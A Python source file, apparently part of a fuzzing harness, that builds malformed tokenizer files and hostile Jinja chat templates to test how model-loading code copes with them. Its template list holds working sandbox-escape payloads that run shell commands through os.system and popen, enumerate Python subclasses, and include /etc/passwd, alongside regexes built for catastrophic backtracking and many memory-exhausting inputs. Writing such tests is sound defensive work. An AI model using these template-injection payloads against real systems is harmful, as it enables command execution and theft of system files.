"""Hostile tokenizers and chat templates: tables that lie, regexes without end, Jinja that wants out of its sandbox."""

import json
import struct
from collections.abc import Callable

from hostile import _copy, _write, change


def _regexes(pick):
    return pick.choice(["(a+)+$", "(a|aa)+$", "(a|a)*b", "^(([a-z])+.)+[A-Z]([a-z])+$", "(?=(a+))a*b\\1",
                        "(" * 500 + ")" * 500,
                        "a{1,99999}{1,99999}", "(?<=a*)b", "[", "\\1", "(?:(?:a*)*)*c", ".*" * \
                                                 50 + "z", "", "a" * 10 ** 5,
                        "(?<x>a\\g<x>?)", "(?R)", "a**", "((a{0,999}){0,999}){0,999}"])


def tokenizer_json(pick, folder, place):
    """A tokenizer.json with strange values, ids, regexes, or megabytes of merges."""
    _copy(place, folder, "hf")
    path = folder / "tokenizer.json"
    whole = json.loads(path.read_text())
    model, lie = whole["model"], pick.randrange(7)
    regex, pattern = {"Regex": _regexes(pick)}, {"String": pick.choice(["", "a", "x" * 10 ** 5])}
    if lie == 0:
        model["vocab"] |= dict(zip(pick.sample(list(model["vocab"]), 2), [pick.choice(
            [2 ** 32 - 1, 2 ** 32 - 2, 2 ** 31, 2 ** 40, -1, 0, 10 ** 8, 1.5, None]) for _ in range(2)]))
    elif lie == 1:
        words = [f"{n:x}" for n in range(pick.choice([10, 3000]))]
        whole["model"] = {"type": "BPE", "vocab": {word: n for n, word in enumerate([*words, "</s>"])},
                          "unk_token": None,
                          "merges": [pick.choice(["a b", ["a", "b"], "a", [], "a b c", ["a"], " "])]
                          * pick.choice([1, 10 ** 4, 10 ** 6])}
    elif lie == 2:
        whole["pre_tokenizer"] = {"type": "Split", "pattern": pick.choice([regex, pattern]), "behavior": pick.choice(
            ["Isolated", "Removed", "Contiguous", "x"]), "invert": pick.choice([True, False])}
    elif lie == 3:
        whole["normalizer"] = pick.choice([
            {"type": "Replace", "pattern": regex, "content": "b" * \
                pick.choice([1, 10 ** 6])}, {"type": "Prepend", "prepend": "x" * 10 ** 7},
            {"type": "Sequence", "normalizers": [{"type": "Replace", "pattern": {"String": "a"},
                                                  "content": "aaaaaaaa"}] * pick.choice(
                [3, 6, 30])}, {"type": "Precompiled", "precompiled_charsmap": pick.choice(["AAAA", "/////w==", "x"])},
            json.loads('{"type":"Sequence","normalizers":[' * 60 + "]}" * 60)])
    elif lie == 4:
        whole["added_tokens"] += [{"id": pick.choice([2 ** 32 - 1, 0, 3, 10 ** 9, -1]), "content": pick.choice(
            ["", "a", " ", "\n", "x" * 10 ** 5, "</s>", "\x1b[2J"]), "single_word": False, "lstrip": True,
                                   "rstrip": True,
            "normalized": pick.choice([True, False]), "special": pick.choice([True, False])}] * pick.choice([1, 2,
                                                                                                             1000])
    elif lie == 5:
        whole["decoder"] = pick.choice([{"type": "Strip", "content": "a", "start": pick.choice([2 ** 62, 9]),
                                         "stop": 2 ** 62},
                                        {"type": "Replace", "pattern": regex, "content": ""}, {"type": "CTC"},
                                        {"type": "Wordpiece"}])
        whole["padding"] = {"strategy": {"Fixed": 10 ** 12}, "direction": "Right", "pad_to_multiple_of": 2 ** 40,
                            "pad_id": 0,
                            "pad_type_id": 0, "pad_token": "</s>"}
        whole["post_processor"] = pick.choice([None, {"type": "TemplateProcessing",
                                                      "single": [{"Sequence": {"id": "A", "type_id": 0}}]
                                               * pick.choice([2, 10 ** 4]), "pair": [], "special_tokens": {}}])
    _write(path, json.dumps(whole))
    if lie == 6:
        change(pick, path)
    if pick.random() < 0.3:
        change(pick, folder / "tokenizer_config.json")
    return [(reader, folder) for reader in ("load", "tokenizer")] + [("tokenizer", path)]


def _field(number, kind, content):
    """A field of a protocol buffer."""
    return bytes([number << 3 | kind]) + content


def _varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def old_tokenizer(pick, folder, place):
    """The files that came before tokenizer.json: sentencepiece models, vocabularies and merges that lie."""
    _copy(place, folder, "hf")
    (folder / "tokenizer.json").unlink()
    name = pick.choice(["tokenizer.model", "spiece.model", "vocab.txt", "vocab.json", "source.spm"])
    piece = lambda text, kind: _field(1, 2, _varint(len(inner := _field(1, 2, _varint(len(text)) + text) + _field(
        2, 5, struct.pack("<f", pick.choice([0.0, -1.0, float("nan"), float("inf")]))) + _field(3, 0, _varint(kind))))
                                      + inner)
    texts = [b"<unk>", b"<s>", b"</s>", b"<pad>", *
    (f"<0x{n:02X}>".encode() for n in range(256)), b"a", b"aa", b"a" *
     pick.choice([2, 5000])]
    pieces = b"".join(piece(text, pick.choice([2, 3, 1, 6, 4, 5, 9])) for text in texts)
    pieces *= pick.choice([1, 1, 2, 30])
    trainer = _field(3, 0, _varint(pick.choice([1, 2, 3, 4, 99]))) + \
                     _varint(40 << 3) + _varint(pick.choice([0, 5, 10 ** 6, 2 ** 64 - 1]))
    model = pieces + _field(2, 2, _varint(pick.choice([len(trainer), 2 ** 31, 2 ** 63])) + trainer)
    charsmap = pick.choice([b"", b"\xff" * 8, struct.pack("<I", 2 ** 31) + b"x"])
    model += _field(3, 2, _varint(len(charsmap) + 2) + _field(2, 2,
                    _varint(len(charsmap)) + charsmap)) if charsmap else b""
    words = "\n".join(pick.choice([["[UNK]", "[CLS]", "[SEP]", "a", "##a"],
                      [""] * 9, ["[UNK]"] * 3, ["x" * 10 ** 5] * 9]))
    vocabulary = {"<unk>": 0, "</s>": 1, "<s>": 2,
        "a": pick.choice([3, -1, 2 ** 32, 2 ** 31, 1.5, "3", None, 4 * 10 ** 9]), "<pad>": 4}
    _write(folder / name, {"vocab.txt": words, "vocab.json": json.dumps(vocabulary)}.get(name, model))
    if name == "vocab.json":
        _write(folder / "merges.txt", pick.choice(["a a", "#version\n", "a", "a b c", "a a\n" * 10 ** 5, "\0"]))
    if name == "source.spm":
        _write(folder / "vocab.json", json.dumps(vocabulary))
    _write(folder / "tokenizer_config.json", json.dumps({"tokenizer_class": pick.choice(
        ["T5Tokenizer", "LlamaTokenizer", "GemmaTokenizer", "XLMRobertaTokenizer", "BertTokenizer", "GPT2Tokenizer",
         "MarianTokenizer"]),
        "extra_ids": pick.choice([100, 0, -1, 10 ** 9, "x"]), "added_tokens_decoder": pick.choice(
            [{}, {"0": {"content": "x"}}, {"a": {}}, {str(2 ** 70): {"content": "y", "special": True}}, {"1": 7},
             []])}))
    return [(reader, folder) for reader in ("load", "tokenizer")]


TEMPLATES = (
    "{{ 'a' * 10**%d }}", "{{ 'a' * %d }}", "{%% for i in range(10**%d) %%}x{%% endfor %%}",
    "{{ range(10**%d)|list|length }}",
    "{%% for i in range(9999) %%}{%% for j in range(9999) %%}x{%% endfor %%}{%% endfor %%}", "{{ 10**10**%d }}",
    "{{ 9**(9**%d) }}",
    "{%% macro f(n) %%}{{ f(n+1) }}{%% endmacro %%}{{ f(%d) }}",
    "{%% macro f() %%}{{ f() }}{{ f() }}{%% endmacro %%}{{ f() }}",
    "{{ '{0.__class__.__mro__}'.format(messages) }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ messages.__class__.__base__.__subclasses__()[%d] }}", "{{ ''['__class__'] }}",
    "{{ messages|attr('__class__') }}",
    "{{ ('%%c' %% 95) ~ 'x' }}", "{{ '%%0999999999d' %% 1 }}", "{{ '{:>999999999}'.format(1) }}",
    "{{ 'x'|center(10**%d) }}",
    "{{ self.__init__.__globals__['os'].system('COMMAND') }}", "{{ cycler.__init__.__globals__.os.popen('COMMAND') }}",
    "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__ }}", "{{ lipsum.__globals__['os'].system('COMMAND') }}",
    "{{ raise_exception.__globals__['sys'].modules['os'].system('COMMAND') }}", "{{ strftime_now.__globals__ }}",
    "{{ strftime_now('%%999999999d') }}", "{{ strftime_now('%%c' * 10**%d) }}",
    "{{ raise_exception('\x1b[2J\n' * 9) }}",
    "{%% include '/etc/passwd' %%}", "{%% import 'os' as os %%}{{ os.system('COMMAND') }}",
    "{%% extends '/etc/passwd' %%}",
    "{%% from 'x' import y %%}",
    "{%% set ns = namespace(a='a') %%}{%% for i in range(%d) %%}{%% set ns.a = ns.a ~ ns.a %%}{%% endfor %%}",
    "{%% set ns = namespace(a=[1]) %%}{%% for i in range(%d) %%}{%% set ns.a = ns.a + ns.a %%}{%% endfor %%}"
    "{{ ns.a|length }}",
    "{%% set ns = namespace(a=[1]) %%}{%% for i in range(%d) %%}{%% set ns.a = [ns.a, ns.a] %%}{%% endfor %%}"
    "{{ ns.a }}",
    "{%% set ns = namespace(a={}) %%}{%% for i in range(%d) %%}{%% set ns.a = {'a': ns.a, 'b': ns.a} %%}"
    "{%% endfor %%}{{ ns.a|tojson }}",
    "{{ ('a,' * 99999).split(',')|join('x' * 99999) }}", "{{ ('a' * 999999)|replace('a', 'a' * 999999) }}",
    "{{ ('a' * 99999)|indent(99999) }}", "{{ [1,2]|map('center', 10**%d)|list }}",
    "{{ range(10**6)|batch(2)|list|length }}",
    "{{ messages.append(messages) }}{{ messages }}", "{{ messages.clear() }}",
    "{{ messages[0].update({'a': messages}) }}",
    "{{ '('*%d }}", "((" * 300, "{{ " + "(" * 3000 + "1" + ")" * 3000 + \
          " }}", "{{ " + "-" * 9000 + "1 }}", "{{ 1" + "+1" * 9000 + " }}",
    "{%% if 1 %%}" * 200 + "x" + "{%% endif %%}" * 200, "{{ '\\ud800' }}", "{{ [].__class__.__bases__ }}",
    "{{ ().__doc__ }}",
    "{{ messages|map(attribute='__class__')|list }}", "{{ messages|groupby('__class__') }}",
    "{{ messages|sort(attribute='role.__class__') }}",
    "{{ '%%s' %% ('x' * 10**6,) * 99 }}", "{{ 'a'.encode('utf-8').hex() * 10**%d }}", "{{ 'a'.zfill(10**%d) }}",
    "{{ 'a'.ljust(10**%d) }}",
    "{{ (1).to_bytes(10**%d, 'big') }}", "{{ (10**4000)|string * 9 }}", "{{ 'a\ta'.expandtabs(10**%d) }}",
    "{{ 'a'.translate({97: 'b' * 10**6}) }}",
    "{{ 'aaa'.join(['a' * 10**6] * 99) }}", "{{ [0] * 10**%d }}", "{{ [[0] * 10**6] * 10**6 }}",
    "{{ dict(a=1).popitem }}", "{{ x.y.z }}",
    "{%% for a in range(10**6) recursive %%}{{ loop([1]) }}{%% endfor %%}", "{{ range(10**6)|sum }}",
    "{{ range(10**6)|random }}",
    "{%% filter upper %%}{%% for i in range(10**6) %%}aaaa{%% endfor %%}{%% endfilter %%}",
    "{{ ('a' * 10**6)|wordcount }}",
    "{{ ('a ' * 10**6)|title|upper|lower|striptags|escape }}", "{{ (' ' * 10**6 ~ 'x')|striptags }}",
    "{{ ('<' * 10**6)|striptags }}",
    "{{ ('a' * 10**6)|urlize }}", "{{ ('a b ' * 10**5)|wordwrap(1) }}", "{{ 1|round(10**%d) }}",
    "{{ '1'|int('x', 10**%d) }}",
    "{{ ('9' * 10**6)|int }}", "{{ 7 // 0 }}", "{{ 1e308 * 10 }}", "{{ [1]|slice(10**%d)|list }}",
    "{{ (1.5).as_integer_ratio.__self__ }}",
    "{%% set x %%}{%% for i in range(10**6) %%}aaaaaaaaaa{%% endfor %%}{%% endset %%}{{ x ~ x ~ x }}",
    "{{ 1 << 10**%d }}")


def template(pick, folder, place):
    """A chat template that wants out of its sandbox, to run for ever, or to fill the memory."""
    one = lambda: pick.choice(TEMPLATES).replace("COMMAND", place.command.decode()).replace("%%", "%").replace(
        "%d", str(pick.choice([1, 5, 9, 10, 30, 132])))
    text = pick.choice([one(), one(), "{{ bos_token }}" + one() + one(),
                       "{% for m in messages %}" + one() + "{% endfor %}"])
    _write(folder / "chat.jinja", text)
    if pick.random() < 0.2:
        _copy(place, folder, "hf")
        _set_template(folder, text)
        return [("template", folder / "chat.jinja"), ("load", folder)]
    return [("template", folder / "chat.jinja")]


def _set_template(folder, text):
    path = folder / "tokenizer_config.json"
    _write(path, json.dumps(json.loads(path.read_text()) | {"chat_template": text}))


TOKENIZERS: dict[Callable, int] = {tokenizer_json: 10, old_tokenizer: 8, template: 24}
